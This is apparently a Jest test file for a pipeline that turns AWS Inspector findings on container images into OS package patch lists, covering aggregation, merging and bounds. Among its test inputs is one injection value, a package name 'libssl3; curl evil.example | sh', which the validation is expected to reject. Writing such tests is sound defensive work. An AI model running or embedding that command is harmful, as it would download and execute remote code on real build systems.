/**
 * The vulnerable packages' way from an Inspector finding to the patch layer: triage keeps them on the
 * affected image (aggregate), merges keep them exact or give up to "every update", and planBuilds
 * passes them as PATCH_PACKAGES. (`npm run test:image` then proves the patch layer with a real build.)
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { workflowDefaultsSchema } from '../../lambdas/shared/config';
import {
  type AffectedImage,
  MAX_PATCH_PACKAGES_PER_IMAGE,
  type PatchPackage,
} from '../../lambdas/shared/contracts';
import { mergeImages, mergePatchPackages } from '../../lambdas/shared/remediation';
import { aggregate, type Contribution, patchPackagesOf } from '../../lambdas/triage/aggregate';
import { type Finding, parseEvent } from '../../lambdas/triage/schema';
import { contribution } from '../support/contribution';

const FIXTURE = JSON.parse(
  readFileSync(join(__dirname, '..', 'fixtures', 'events', 'finding-ecr-ubuntu-2024.json'), 'utf8'),
) as { detail: { packageVulnerabilityDetails: { vulnerablePackages: Record<string, unknown>[] } } };

/** The documented Ubuntu finding (libssl3t64 and openssl, fixed in 0:3.0.13-0ubuntu3.4), its packages replaced when given. */
const finding = (packages?: Record<string, unknown>[], id = 'f1'): Finding => {
  const event = structuredClone(FIXTURE) as typeof FIXTURE & { detail: { findingArn: string } };
  if (packages) event.detail.packageVulnerabilityDetails.vulnerablePackages = packages;
  event.detail.findingArn = `arn:aws:inspector2:eu-central-1:123456789012:finding/${id}`;
  const parsed = parseEvent(event);
  if (parsed.kind !== 'finding') throw new Error('the fixture is a finding');
  return parsed.finding;
};

const imagesOf = (
  contributions: Contribution[],
  rebuild?: { mode: 'patch-os'; packages?: 'vulnerable' | 'all' },
) =>
  aggregate(contributions, {
    targets: rebuild
      ? [
          {
            cluster: 'prod',
            service: 'api',
            repositories: [],
            alarmNames: [],
            rebuild,
            bakeTimeMinutes: 60,
            tags: {},
          },
        ]
      : [],
    defaults: workflowDefaultsSchema.parse({}),
    now: new Date('2024-09-04T16:55:38.411Z'),
  })[0]?.request.images ?? [];

const pkg = (name: string, fixedInVersion?: string, packageManager = 'OS') => ({
  name,
  version: '1.0',
  packageManager,
  ...(fixedInVersion === undefined ? {} : { fixedInVersion }),
});

describe('patchPackagesOf', () => {
  it('keeps the OS packages a finding names with the versions that fix them, sorted', () => {
    expect(patchPackagesOf(finding())).toEqual([
      { name: 'libssl3t64', fixedInVersion: '0:3.0.13-0ubuntu3.4' },
      { name: 'openssl', fixedInVersion: '0:3.0.13-0ubuntu3.4' },
    ]);
  });

  it('keeps a package without a known fix by name, and leaves language packages to the source rebuild', () => {
    expect(
      patchPackagesOf(
        finding([
          pkg('zlib1g', 'NotAvailable'),
          pkg('lodash', '4.17.21', 'NPM'),
          pkg('perl-IO-Socket-SSL', '2.066-4.el8'),
        ]),
      ),
    ).toEqual([{ name: 'perl-IO-Socket-SSL', fixedInVersion: '2.066-4.el8' }, { name: 'zlib1g' }]);
  });

  it.each([
    ['a finding without OS packages', [pkg('lodash', '4.17.21', 'NPM')]],
    ['a name that could reach a shell', [pkg('libssl3; curl evil.example | sh', '1.0')]],
    ['a version with a quote', [pkg('libssl3', "1.0'")]],
    ['a version with a space', [pkg('libssl3', '1.0 2.0')]],
  ])('knows nothing exactly (undefined: every update) for %s', (_, packages) => {
    expect(patchPackagesOf(finding(packages))).toBeUndefined();
  });
});

describe('aggregate', () => {
  it('carries the findings’ packages on the affected image, the union over the findings of one digest', () => {
    const images = imagesOf([
      contribution(finding()),
      contribution(
        finding([pkg('libssl3t64', '0:3.0.13-0ubuntu3.5'), pkg('zlib1g', '1:1.3.dfsg-3.1ubuntu2.1')], 'f2'),
      ),
    ]);
    expect(images).toHaveLength(1);
    expect(images[0]?.packages).toEqual([
      { name: 'libssl3t64', fixedInVersion: '0:3.0.13-0ubuntu3.4' },
      // Both fixes are kept: the patch layer must reach the higher one, and only it can order versions.
      { name: 'libssl3t64', fixedInVersion: '0:3.0.13-0ubuntu3.5' },
      { name: 'openssl', fixedInVersion: '0:3.0.13-0ubuntu3.4' },
      { name: 'zlib1g', fixedInVersion: '1:1.3.dfsg-3.1ubuntu2.1' },
    ]);
    expect(images[0]?.rebuild).toEqual({ mode: 'patch-os' });
  });

  it('gives up the exact list when one finding of the image has none: the layer then takes every update', () => {
    const images = imagesOf([
      contribution(finding()),
      contribution(finding([pkg('lodash', '4.17.21', 'NPM')], 'f2')),
    ]);
    expect(images[0]?.packages).toBeUndefined();
  });

  it('applies the target’s choice of every update to its patch layers', () => {
    expect(imagesOf([contribution(finding())], { mode: 'patch-os', packages: 'all' })[0]?.rebuild).toEqual({
      mode: 'patch-os',
      packages: 'all',
    });
    expect(imagesOf([contribution(finding())], { mode: 'patch-os' })[0]?.rebuild).toEqual({
      mode: 'patch-os',
    });
  });
});

describe('mergePatchPackages', () => {
  const many = (n: number, prefix: string): PatchPackage[] =>
    Array.from({ length: n }, (_, i) => ({ name: `${prefix}${i}`, fixedInVersion: '1.0' }));

  it('is unknown when either side is unknown (a request from before the field, merged with a new one)', () => {
    expect(mergePatchPackages(undefined, [{ name: 'a' }])).toBeUndefined();
    expect(mergePatchPackages([{ name: 'a' }], undefined)).toBeUndefined();
  });

  it('deduplicates and sorts; beyond the bound it is unknown rather than cut short', () => {
    expect(
      mergePatchPackages(
        [{ name: 'b', fixedInVersion: '2' }, { name: 'a' }],
        [{ name: 'b', fixedInVersion: '2' }],
      ),
    ).toEqual([{ name: 'a' }, { name: 'b', fixedInVersion: '2' }]);
    expect(mergePatchPackages(many(MAX_PATCH_PACKAGES_PER_IMAGE, 'p'), [])).toHaveLength(
      MAX_PATCH_PACKAGES_PER_IMAGE,
    );
    expect(mergePatchPackages(many(MAX_PATCH_PACKAGES_PER_IMAGE, 'p'), many(1, 'q'))).toBeUndefined();
  });

  it('is what mergeImages does with the field (and old images without it merge as before)', () => {
    const base: AffectedImage = {
      repository: 'api',
      registry: '123456789012',
      repositoryUri: '123456789012.dkr.ecr.eu-central-1.amazonaws.com/api',
      imageDigest: `sha256:${'a'.repeat(64)}`,
      imageTags: [],
      containers: ['app'],
      packageManagers: ['OS'],
      cves: ['CVE-1'],
      severity: 'HIGH',
      findingArns: ['f1'],
      rebuild: { mode: 'patch-os' },
    };
    const withA = { ...base, packages: [{ name: 'a', fixedInVersion: '1' }] };
    const withB = { ...base, cves: ['CVE-2'], packages: [{ name: 'b' }] };
    expect(mergeImages([withA], [withB])[0]?.packages).toEqual([
      { name: 'a', fixedInVersion: '1' },
      { name: 'b' },
    ]);
    expect(mergeImages([withA], [base])[0]).not.toHaveProperty('packages');
    expect(mergeImages([base], [{ ...base, cves: ['CVE-2'] }])[0]).not.toHaveProperty('packages');
  });
});
